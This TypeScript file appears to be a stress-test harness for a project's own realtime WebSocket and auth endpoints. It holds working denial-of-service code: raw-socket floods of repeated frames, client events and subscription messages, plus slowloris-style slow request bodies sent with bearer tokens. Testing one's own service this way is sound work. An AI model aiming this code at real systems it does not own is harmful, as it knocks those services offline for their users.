import { request } from 'node:http';
import { connect } from 'node:net';
import { constants, setPriority } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';
import type { authorizeChannel } from '@studyline/contract/realtime/calls';
import type { Result } from '@studyline/contract/core/endpoint';

/** The attackers' targets. */
export interface Targets {
  product: string;
  key: string;
  channel: string;
  /** Bearer tokens of members, who also attack. */
  tokens: string[];
  /** The token of the person who may do most. */
  administrator: string;
}

const SOCKETS_PER_KIND = 100;
const SLOW_BODIES = 100;
const FRAMES = 2000;

/**
 * The attackers, in their own process: sockets that send one-byte frames, client events and subscriptions as fast as they can,
 * and bodies that arrive at a byte per second. An attacker that is shut out comes back after a second, plus or minus half a
 * second.
 */
const { product, key, channel, tokens } = JSON.parse(process.env['ATTACK_TARGETS'] ?? '') as Targets;
// They have a lower priority than their targets, as if they ran on another machine.
setPriority(constants.priority.PRIORITY_LOW);

/** A client's frame repeated many times, created once: the attackers must not need more resources than their targets. */
function repeat(text: string): Buffer {
  const payload = Buffer.from(text);
  const length = payload.length < 126 ? [payload.length] : [126, payload.length >> 8, payload.length & 255];
  const [first = 0, ...rest] = length;
  const frame = Buffer.concat([Buffer.from([0x81, 0x80 | first, ...rest, 0, 0, 0, 0]), payload]);
  return Buffer.concat(Array<Buffer>(FRAMES).fill(frame));
}

type Frames = (socketId: string, index: number) => Promise<Buffer> | Buffer;

const aboutASecond = () => pause(500 + 1000 * Math.random());

async function attack(framesFor: Frames, index: number): Promise<void> {
  const { hostname, port } = new URL(product);
  const handshake = [
    `GET /app/${key}?protocol=7 HTTP/1.1`,
    `Host: ${hostname}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==',
  ];
  await aboutASecond();
  for (;;) {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    const closed = new Promise((resolve) => socket.on('close', resolve));
    socket.write(`${handshake.join('\r\n')}\r\n\r\n`);
    let isGreeted = false;
    socket.on('data', (bytes) => {
      const [, socketId] = /socket_id\\":\\"([\d.]+)/.exec(bytes.toString('latin1')) ?? [];
      if (!socketId || isGreeted) return;
      isGreeted = true;
      const send = async () => socket.write(await framesFor(socketId, index));
      send().catch(() => socket.destroy());
    });
    await closed;
    await aboutASecond();
  }
}

const bytes = repeat('x');
const clientEvents = repeat(JSON.stringify({ event: 'client-typing', channel, data: 'x'.repeat(1000) }));

async function subscriptions(socket_id: string, index: number): Promise<Buffer> {
  const response = await fetch(`${product}/openapi/v1/realtime/auth`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${tokens[index % tokens.length]}` },
    body: JSON.stringify({ socket_id, channel_name: channel }),
  });
  const { authResponse } = (await response.json()) as Result<typeof authorizeChannel>;
  return repeat(JSON.stringify({ event: 'pusher:subscribe', data: { channel, ...authResponse } }));
}

async function sendSlowly(token: string) {
  await aboutASecond();
  for (;;) {
    const sent = request(`${product}/openapi/v1/realtime/auth`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'content-length': 100_000,
        authorization: `Bearer ${token}`,
      },
    });
    const closed = new Promise((resolve) => sent.on('close', resolve));
    sent.on('error', () => undefined);
    const timer = setInterval(() => sent.write(' '), 1000);
    await closed;
    clearInterval(timer);
    await aboutASecond();
  }
}

for (let index = 0; index < SOCKETS_PER_KIND; index += 1) {
  void attack(() => bytes, index);
  void attack(() => clientEvents, index);
  void attack(subscriptions, index);
}
for (let index = 0; index < SLOW_BODIES; index += 1) void sendSlowly(tokens[index % tokens.length] ?? '');
console.log(`attacking ${product}`);
process.on('SIGTERM', () => process.exit(0));
